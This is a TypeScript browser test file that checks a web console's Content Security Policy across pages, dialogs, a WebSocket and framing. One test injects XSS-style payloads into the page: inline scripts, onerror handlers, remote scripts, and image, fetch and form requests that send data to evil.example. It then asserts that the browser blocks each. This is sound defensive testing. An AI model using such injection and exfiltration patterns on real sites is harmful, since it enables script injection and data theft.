import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { seedIfEmpty } from '../../server/domain/sample/seed.ts';
import { signInByLink } from '../access/support.ts';
import { launchBrowser } from '../browser/browser.ts';
import { startTestApp, type TestApp } from '../support/app.ts';

// The policy of the page in a real browser: all of the console stays within it, and nothing else gets through.

let app: TestApp;
let browser: Browser;
let page: Page;
/** What the browser says that it has refused. */
const refused: string[] = [];

beforeAll(async () => {
  app = await startTestApp();
  await seedIfEmpty(app.app.orm.em.fork(), { now: Temporal.Now.instant(), timeZone: 'America/Regina' });
  browser = await launchBrowser();
  const context = await browser.newContext();
  const [name = '', ...value] = (await signInByLink(app, app.app.signInLink!)).split('=');
  await context.addCookies([{ name, value: value.join('='), url: app.url }]);
  page = await context.newPage();
  page.on('console', (message) => {
    if (/Content.Security.Policy/i.test(message.text())) refused.push(message.text());
  });
});
afterAll(async () => {
  await browser?.close();
  await app?.[Symbol.asyncDispose]();
});

async function open(path: string): Promise<void> {
  await page.goto(`${app.url}${path}`);
  await page.getByRole('heading', { level: 1 }).first().waitFor();
}

/** Style sheets made by the page that the browser does not apply. */
const idleStyles = () =>
  page.evaluate(() =>
    [...document.querySelectorAll('style')].filter(({ sheet }) => !sheet).map((style) => style.outerHTML),
  );

/** The page of the first record of a list. */
async function firstOf(list: string, path = list): Promise<string> {
  const { records } = await app.query<{ records: { edges: { node: { id: string } }[] } }>(
    `{ records: ${list}(first: 1) { edges { node { id } } } }`,
  );
  return `/${path}/${records.edges[0]!.node.id}`;
}

describe('the console stays within the policy', () => {
  test.each(['light', 'dark'] as const)('on its pages in %s colours', async (colorScheme) => {
    refused.length = 0;
    await page.emulateMedia({ colorScheme });
    for (const path of [
      '/tasks',
      '/nodes',
      '/cycles',
      '/allocations',
      '/audit',
      '/access',
      '/account',
      await firstOf('cycles'),
      await firstOf('submissions'),
      await firstOf('reviews'),
      await firstOf('projects'),
      await firstOf('sessions'),
      // With its mail in a frame.
      await firstOf('notifications', 'messages'),
    ]) {
      await open(path);
      expect(await page.getAttribute('html', 'data-mantine-color-scheme')).toBe(colorScheme);
      expect(await idleStyles(), path).toEqual([]);
    }
    await page.locator('iframe').waitFor();
    expect(refused).toEqual([]);
  });

  test('behind a dialog, which locks the page by a style of its own', async () => {
    refused.length = 0;
    await open('/access');
    await page
      .getByRole('button', { name: /add|new|make/i })
      .first()
      .click();
    await page.getByRole('dialog').waitFor();
    // The page is locked a moment after the dialog is there.
    await page.waitForFunction(() => getComputedStyle(document.body).overflow === 'hidden');
    expect(await idleStyles()).toEqual([]);
    expect(refused).toEqual([]);
  });

  test('on its WebSocket', async () => {
    refused.length = 0;
    const agreed = new Promise<void>((resolve) => {
      page.once('websocket', (socket) =>
        socket.on('framereceived', ({ payload }) => {
          if (String(payload).includes('connection_ack')) resolve();
        }),
      );
    });
    await open('/tasks');
    await agreed;
    expect(refused).toEqual([]);
  });

  test('before the first paint: a dark console begins dark', async () => {
    await page.emulateMedia({ colorScheme: 'dark' });
    // Without any of the console's own scripts there is the document alone.
    await page.route('**/assets/*.js', (route) => route.abort());
    await page.goto(`${app.url}/tasks`, { waitUntil: 'domcontentloaded' });
    expect(await page.getAttribute('html', 'data-mantine-color-scheme')).toBe('dark');
    await page.unroute('**/assets/*.js');
  });
});

describe('what somebody has put into the page', () => {
  test.each([
    [
      'a script in the text of the page',
      () => {
        const script = document.createElement('script');
        script.textContent = 'document.title = "taken"';
        document.body.append(script);
      },
    ],
    [
      'a handler in an element',
      () => {
        const element = document.createElement('div');
        element.innerHTML = '<img src="data:," onerror="document.title = \'taken\'">';
        document.body.append(element);
      },
    ],
    [
      'a script from elsewhere',
      () => {
        const script = document.createElement('script');
        script.src = 'https://evil.example/x.js';
        document.body.append(script);
      },
    ],
    [
      'an image from elsewhere, with what is on the page in its address',
      () => {
        new Image().src = 'https://evil.example/?secret';
      },
    ],
    ['a request to elsewhere', () => void fetch('https://evil.example/').catch(() => undefined)],
    [
      'a style without the nonce',
      () => {
        const style = document.createElement('style');
        style.textContent = 'body { background: url(https://evil.example/) }';
        document.body.append(style);
      },
    ],
    [
      'a form that sends elsewhere',
      () => {
        const form = document.createElement('form');
        form.action = 'https://evil.example/';
        document.body.append(form);
        form.submit();
      },
    ],
    [
      'a frame',
      () => {
        const frame = document.createElement('iframe');
        frame.src = 'https://evil.example/';
        document.body.append(frame);
      },
    ],
    [
      'another base of all addresses',
      () => {
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.append(base);
      },
    ],
  ] as [string, () => void][])('gets nowhere: %s', async (_name, put) => {
    await open('/nodes');
    refused.length = 0;
    const said = page.waitForEvent('console', (message) => /Content.Security.Policy/i.test(message.text()));
    await page.evaluate(put);
    await said;
    expect(refused).not.toEqual([]);
    expect(await page.title()).not.toBe('taken');
  });
});

test('no page elsewhere may show the console in a frame', async () => {
  const other = await browser.newPage();
  const said = other.waitForEvent('console', (message) => /frame-ancestors/.test(message.text()));
  await other.setContent(`<iframe src="${app.url}/tasks"></iframe>`);
  await said;
  await other.close();
});
